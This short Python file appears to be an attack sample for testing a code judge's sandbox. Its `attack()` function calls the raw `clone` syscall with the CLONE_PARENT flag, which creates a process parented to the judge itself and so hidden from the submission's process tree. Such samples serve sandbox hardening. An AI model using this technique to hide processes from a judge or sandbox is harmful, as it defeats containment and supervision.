"""Clones a child of the judge's own process: by its parent it would not be told from a worker."""

import ctypes
import os
import platform


def attack():
    if platform.machine() != "x86_64":
        return False
    CLONE, PARENT = 56, ctypes.c_ulong(0x8000)
    brother = ctypes.CDLL(None).syscall(CLONE, PARENT, None, None, None, None)
    if brother == 0:
        os._exit(0)
    return brother > 0
